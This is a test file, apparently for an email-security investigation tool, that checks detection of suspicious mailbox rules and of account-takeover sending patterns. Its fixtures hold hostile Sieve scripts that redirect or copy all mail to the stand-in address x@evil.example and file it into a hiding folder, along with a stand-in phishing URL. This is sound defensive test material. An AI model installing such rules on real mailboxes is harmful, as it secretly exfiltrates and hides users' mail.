"""Users whom bad mail reached are looked at: what runs over their mail, and what they send."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import timedelta

import pytest
from tests.investigations.test_investigations import message_of, wave
from tests.making.clicks import make_click
from tests.making.deliveries import NOW
from tests.remediation.people import person

from clawback.identity.role import Role
from clawback.investigations.habits import Sent, unusual
from clawback.investigations.investigation import (
    AdviceKind,
    ClusterKind,
    Status,
    StepName,
    Threat,
)
from clawback.investigations.playbook import Sending
from clawback.investigations.user_rules import hides, leads_out
from clawback.mailboxes.port import ServerUnavailableError
from clawback.mailboxes.rules.meaning import Deed, Effect
from clawback.mailboxes.rules.port import Language, Script
from clawback.mailboxes.rules.running import running
from clawback.model.location import Directionality
from clawback.model.scope import Scope
from clawback.model.verdict import ClickVerdict, ThreatType
from clawback.remediation.policy import Policy

USER = "user5@example.org"
PLACE = "login.evil.example/session"
LINK = f"https://{PLACE}"


@dataclass
class Desk:
    """Mailboxes with these active scripts; `None` cannot be reached."""

    scripts: dict[str, str | None] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def owns(self, address):
        return address.endswith("@example.org")

    def rules(self, address):
        self.asked.append(address)
        text = self.scripts.get(address, "")
        if text is None:
            raise ServerUnavailableError("The mail server does not answer.")
        return running(
            [Script(name="main", language=Language.SIEVE, active=True, text=text)], address
        )


def clicked(office, *, recipient=USER, verdict=ClickVerdict.ALLOWED):
    click = make_click(
        id="c-1",
        recipient=recipient,
        url=f"{LINK}?u=5",
        url_domain_and_path=PLACE,
        network_message_id=message_of(office, 5),
        at=NOW - timedelta(minutes=30),
        verdict=verdict,
    )
    office.world.store.record_clicks([click])


def test_rules_of_who_clicked_are_evidence_with_script_and_line(office):
    """What leaves the house and what hides mail is told, and what should be done about it."""
    desk = Desk(
        {USER: 'require "copy";\nredirect :copy "x@evil.example";\nfileinto "RSS Feeds";\n'}
    )
    office = office(Policy(required=True), mailboxes=desk)
    wave(office)
    clicked(office)
    case = office.investigate("message", message_of(office, 5))
    found = case.done(StepName.RULES)
    assert [one.reason for one in found.evidence] == [
        "The script 'main', line 2, takes all mail and sends a copy on to x@evil.example.",
        "The script 'main', line 3, takes all mail and puts it into the folder RSS Feeds.",
    ]
    assert desk.asked == [USER]
    assert [(one.kind, one.entity) for one in case.advice] == [
        (AdviceKind.BLOCK_URL, PLACE),
        (AdviceKind.STOP_FORWARDING, USER),
        (AdviceKind.REMOVE_RULE, USER),
    ]


def test_a_rule_that_forwards_is_found_where_no_mail_is_bad(office):
    """The investigation of a user's own mail ends with something found and nothing to clean up."""
    desk = Desk({USER: 'redirect "x@evil.example";'})
    office = office(mailboxes=desk)
    office.world.deliver(7, "user7@example.org", sender_address=USER, time_received=NOW)
    case = office.investigate("sender", USER)
    assert (case.verdict, case.trouble) == (Threat.NONE, Threat.SUSPICIOUS)
    assert case.investigation.status is Status.PARTIALLY_INVESTIGATED


@pytest.mark.parametrize(
    ("script", "told"),
    [(None, "The mail server does not answer."), ("if", "cannot be read: Line 1")],
)
def test_what_cannot_be_read_is_said_and_the_investigation_goes_on(office, script, told):
    """In the sentence of the step."""
    office = office(mailboxes=Desk({USER: script}))
    wave(office)
    clicked(office)
    case = office.investigate("click", "c-1")
    assert told in case.done(StepName.RULES).sentence
    assert case.done(StepName.ACTIONS) is not None


def test_mailboxes_outside_the_openers_scope_are_not_looked_into(office):
    """Not even asked for."""
    desk = Desk({"user5@other.example": 'redirect "x@evil.example";'})
    office = office(mailboxes=desk)
    wave(office)
    clicked(office, recipient="user5@other.example")
    ann = person("ann", Role.ANALYST, scope=Scope(domains=frozenset({"example.org"})))
    case = office.investigate("message", message_of(office, 5), ann)
    assert desk.asked == []
    assert case.done(StepName.RULES).evidence == ()


@pytest.mark.parametrize(
    ("deed", "target", "out"),
    [
        (Deed.FORWARD, "x@evil.example", True),
        (Deed.FORWARD, "X@Example.org", False),
        (Deed.COPY, "team@sub.ours.example", False),
        (Deed.COPY, "${1}@example.org", True),
        (Deed.NOTIFY, "x@evil.example", True),
        (Deed.PROGRAM, "leak", True),
        (Deed.FORWARD, "bob", False),
    ],
)
def test_mail_leads_out_to_strangers_alone(deed, target, out):
    """Own domains are home, the owner's too; what is made when mail comes could be anybody."""
    effect = Effect(deed=deed, line=1, target=target)
    assert leads_out(effect, "ada@example.org", lambda one: one.endswith("ours.example")) is out


@pytest.mark.parametrize(
    ("deed", "target", "when", "hidden"),
    [
        (Deed.FILE, "INBOX.Trash", "", True),
        (Deed.FILE, "Archive/RSS Feeds", "", True),
        (Deed.FILE, "Invoices", "", False),
        (Deed.DISCARD, "", 'header :contains "subject" "invoice"', True),
        (Deed.DISCARD, "", 'header "X-Spam-Flag" "YES"', False),
        (Deed.REFUSE, "", "", True),
    ],
)
def test_mail_is_hidden_from_its_owner_unless_it_is_spam(deed, target, when, hidden):
    """A folder of one's own hides nothing."""
    effect = Effect(deed=deed, line=1, target=target, when=when)
    assert hides(effect, frozenset({"trash", "rss feeds"})) is hidden


def sent(office, number, recipient, *, days, threat=()):
    office.world.deliver(
        number,
        recipient,
        sender_address=USER,
        directionality=Directionality.INTRA_ORG,
        time_received=NOW - timedelta(days=days),
        threat_type=threat,
        subject=f"Hello {number}",
    )


def test_an_account_that_sends_bad_mail_to_many_looks_taken_over(office):
    """Volume, new recipients and bad mail are evidence; what they sent is in clusters by threat."""
    office = office(Policy(required=True), mailboxes=Desk())
    for number in range(1, 11):
        sent(office, number, "friend@example.org", days=3 + number)
    for number in range(20, 50):
        bad = (ThreatType.PHISH,) if number < 35 else ()
        sent(office, number, f"all{number}@example.org", days=1, threat=bad)
    case = office.investigate("sender", USER)
    found = case.done(StepName.SENDING)
    assert [one.reason.split(";")[0] for one in found.evidence] == [
        "They sent 30 deliveries in the last 2 days, where 2 are usual",
        "30 of the 30 recipients of the last 2 days never had mail of theirs before, 1 had",
        "15 deliveries that they sent are held for malware or phish.",
    ]
    users = {one.key: one for one in case.clusters if one.kind is ClusterKind.USER}
    assert {key: (one.deliveries, one.verdict) for key, one in users.items()} == {
        f"user_bad:{USER}": (15, Threat.MALICIOUS),
        f"user_clean:{USER}": (25, Threat.NONE),
    }
    assert sum(one.deliveries for one in case.actions) == 15
    assert [one.kind for one in case.advice] == [AdviceKind.SECURE_ACCOUNT]


LIMITS = Sending(days=2, times=5.0, new_share=0.8, least=20)


@pytest.mark.parametrize(
    ("days", "lately", "new", "told"),
    [
        ([3, 3, 3, 3], 40, 0, 1),
        ([3, 3, 3, 3], 29, 0, 0),  # not five times as much
        ([0, 1, 0, 1, 0, 1], 19, 0, 0),  # too little to matter
        ([0, 0, 9], 200, 200, 0),  # nobody knows what is usual
        ([3, 3, 3, 3], 25, 20, 1),
        ([3, 3, 3, 3], 25, 19, 0),
        ([3, 3, 3, 3], 60, 60, 2),
    ],
)
def test_sending_is_unusual_by_the_playbooks_limits(days, lately, new, told):
    """Against one's own days, with the numbers in the sentence."""
    made = Sent(days=days, lately=lately, known=5, addressed=max(new, 25), new=new)
    assert len(list(unusual(made, LIMITS))) == told
